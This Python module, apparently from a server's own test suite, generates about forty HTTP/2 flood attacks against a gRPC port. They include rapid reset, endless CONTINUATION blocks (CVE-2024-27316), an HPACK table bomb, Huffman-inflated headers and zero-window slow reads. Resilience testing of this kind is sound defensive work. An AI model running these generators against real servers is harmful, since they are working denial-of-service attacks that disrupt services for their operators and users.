"""Floods of HTTP/2 frames and of header blocks on the gRPC port."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count, islice

from tests.support.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    HEADERS,
    HELLO,
    INITIAL_WINDOW_SIZE,
    MAX_FRAME_SIZE,
    OPEN_WINDOWS,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    UNKNOWN,
    call,
    frame,
    huffman_zeros,
    indexed,
    indexed_literal,
    literal,
    request_block,
    reset,
    settings,
    table_size,
    window_update,
)
from tests.transport.attacks.attack import CLASSIFY, DIGIT, GET_MODEL, Attack, Pieces

PIECE_FRAMES = 500  # frames in one piece, so that Python sends them fast
MAX_STREAM_ID = 2**31 - 1

HEAD = request_block(CLASSIFY)


def repeated(one: bytes, start: bytes = b"") -> Callable[[], Pieces]:
    """The same bytes for ever."""
    piece = one * max(1, min(PIECE_FRAMES, (256 << 10) // len(one)))

    def pieces() -> Pieces:
        yield HELLO + start
        while True:
            yield piece

    return pieces


def on_streams(frames: Callable[[int], bytes], start: bytes = OPEN_WINDOWS) -> Callable[[], Pieces]:
    """The frames of one stream after the other, as long as there are stream numbers."""

    def pieces() -> Pieces:
        yield HELLO + start
        numbers = iter(range(1, MAX_STREAM_ID, 2))
        while batch := list(islice(numbers, 50)):
            yield b"".join(map(frames, batch))

    return pieces


def whole_head(block: bytes) -> Callable[[int], bytes]:
    """A request without body, in as many frames as the block needs."""
    first, rest = block[:16384], block[16384:]
    if not rest:
        return lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
    return lambda stream: (
        frame(HEADERS, END_STREAM, stream, first) + frame(CONTINUATION, END_HEADERS, stream, rest)
    )


OPEN = frame(HEADERS, END_HEADERS, 1, HEAD)


def open_then(frames: Callable[[int], bytes]) -> Callable[[int], bytes]:
    return lambda stream: frame(HEADERS, END_HEADERS, stream, HEAD) + frames(stream)


def one_byte_data() -> Pieces:
    """The bytes of one long message after the other, each in a frame."""
    yield HELLO
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, HEAD)
        yield frame(DATA, 0, stream, b"\0" + (60_000).to_bytes(4, "big"))
        for _ in range(59):
            yield frame(DATA, 0, stream, b"\0") * 1_000
        yield frame(DATA, 0, stream, b"\0") * 999 + frame(DATA, END_STREAM, stream, b"\0")
        yield 0.0


def window_dribble() -> Pieces:
    """Responses that the client lets through byte by byte."""
    yield HELLO + settings((INITIAL_WINDOW_SIZE, 0))
    streams = range(1, 200, 2)
    yield b"".join(call(stream, GET_MODEL, b"\x0a\x06lenet5") for stream in streams)
    while True:
        yield b"".join(window_update(stream, 1) for stream in streams)


def window_toggles() -> Pieces:
    """Changes of the window of all streams, each of which has a waiting response."""
    yield HELLO + settings((INITIAL_WINDOW_SIZE, 0))
    yield b"".join(call(stream, GET_MODEL, b"\x0a\x06lenet5") for stream in range(1, 512, 2))
    while True:
        yield (settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 0))) * 200


def dripped_frame() -> Pieces:
    """Large frames byte by byte."""
    yield HELLO
    head = frame(HEADERS, 0, 1, HEAD + literal(b"a", b"x" * 16_000))
    while True:
        for start in range(len(head) - 1):
            yield head[start : start + 1]
            yield 0.0
        yield 0.01


def endless_continuation(one: bytes) -> Callable[[], Pieces]:
    """A header block that never ends (CVE-2024-27316)."""
    return repeated(frame(CONTINUATION, 0, 1, one), frame(HEADERS, 0, 1, HEAD))


def table_bomb() -> Pieces:
    """A field of 4,000 bytes in the table, and blocks of references to it (CVE-2016-6581)."""
    yield HELLO
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD + indexed_literal(b"a", b"x" * 4_000))
    for stream in count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD + indexed(62) * 16_000)


def different_heads() -> Pieces:
    """Header blocks of 7 KB that all differ, to fill what the server keeps of them."""
    yield HELLO + OPEN_WINDOWS
    for stream in count(1, 2):
        value = b"%08d" % stream * 870
        yield call(stream, GET_MODEL, b"", (b"a", value))


def table_resizes() -> Iterator[bytes]:
    """Header blocks full of table size updates."""
    yield HELLO
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, table_size(0) * 8_000 + HEAD)


FLOODS = (
    Attack("rapid-reset", on_streams(open_then(reset))),
    Attack(
        "rapid-reset-of-whole-calls",
        on_streams(lambda stream: call(stream, CLASSIFY, DIGIT) + reset(stream)),
        is_overload=True,
    ),
    Attack(
        "made-you-reset-zero-window-update", on_streams(open_then(lambda s: window_update(s, 0)))
    ),
    Attack(
        "made-you-reset-window-overflow",
        on_streams(lambda s: call(s, CLASSIFY, DIGIT) + window_update(s, 2**31 - 1) * 2),
        is_overload=True,
    ),
    Attack(
        "made-you-reset-data-after-end",
        on_streams(lambda s: call(s, CLASSIFY, DIGIT) + frame(DATA, END_STREAM, s)),
        is_overload=True,
    ),
    Attack(
        "made-you-reset-bad-field",
        on_streams(whole_head(HEAD + literal(b"a", b"b\r\nc"))),
    ),
    Attack("ping", repeated(frame(PING, payload=bytes(8)))),
    Attack("ping-unread", repeated(frame(PING, payload=bytes(8))), reads=False),
    Attack("settings", repeated(frame(SETTINGS))),
    Attack("settings-unread", repeated(frame(SETTINGS)), reads=False),
    Attack("settings-of-2000-entries", repeated(settings(*((MAX_FRAME_SIZE, 16384),) * 2_000))),
    Attack(
        "settings-table-size",
        repeated(settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 4096))),
    ),
    Attack("empty-data", repeated(frame(DATA, 0, 1), OPEN)),
    Attack("padded-data", repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255)), OPEN)),
    Attack("one-byte-data", one_byte_data),
    Attack("window-update-of-connection", repeated(window_update(0, 1))),
    Attack("window-update-of-stream", repeated(window_update(1, 1), OPEN)),
    Attack("window-update-of-closed-stream", repeated(window_update(1, 1), OPEN + reset(1))),
    Attack("priority", repeated(frame(PRIORITY, 0, 1, bytes(4) + b"\x10"))),
    Attack(
        "priority-of-new-streams",
        on_streams(lambda stream: frame(PRIORITY, 0, stream, bytes(4) + b"\x10")),
    ),
    Attack("unknown-frames", repeated(frame(UNKNOWN))),
    Attack("goaway", repeated(frame(GOAWAY, payload=bytes(8)))),
    Attack("reset-of-closed-stream", repeated(reset(1), OPEN + reset(1))),
    Attack("header-literals-370", on_streams(whole_head(HEAD + b"\x00\x01a\x00" * 370))),
    Attack("header-literals-890", on_streams(whole_head(HEAD + b"\x00\x01a\x00" * 890))),
    Attack("header-literals-90", on_streams(whole_head(HEAD + b"\x00\x01a\x00" * 90))),
    Attack("header-indexed-520", on_streams(whole_head(HEAD + indexed(16) * 520))),
    Attack("header-indexed-16000", on_streams(whole_head(HEAD + indexed(16) * 16_000))),
    Attack(
        "header-huffman-30KB", on_streams(whole_head(HEAD + b"\0\x01a" + huffman_zeros(48_000)))
    ),
    Attack("header-huffman-6KB", on_streams(whole_head(HEAD + b"\0\x01a" + huffman_zeros(9_600)))),
    Attack("header-table-bomb", table_bomb),
    Attack("header-table-resizes", table_resizes),
    Attack("header-blocks-that-differ", different_heads),
    Attack("continuation-empty", endless_continuation(b"")),
    Attack("continuation-small", endless_continuation(literal(b"a", b"b"))),
    Attack("continuation-large", endless_continuation(literal(b"a", b"x" * 16_000))),
    Attack("dripped-frame", dripped_frame),
    Attack(
        "zero-window",
        on_streams(
            lambda stream: call(stream, CLASSIFY, DIGIT), settings((INITIAL_WINDOW_SIZE, 0))
        ),
        is_overload=True,
    ),
    Attack("window-dribble", window_dribble),
    Attack("window-toggles", window_toggles),
)
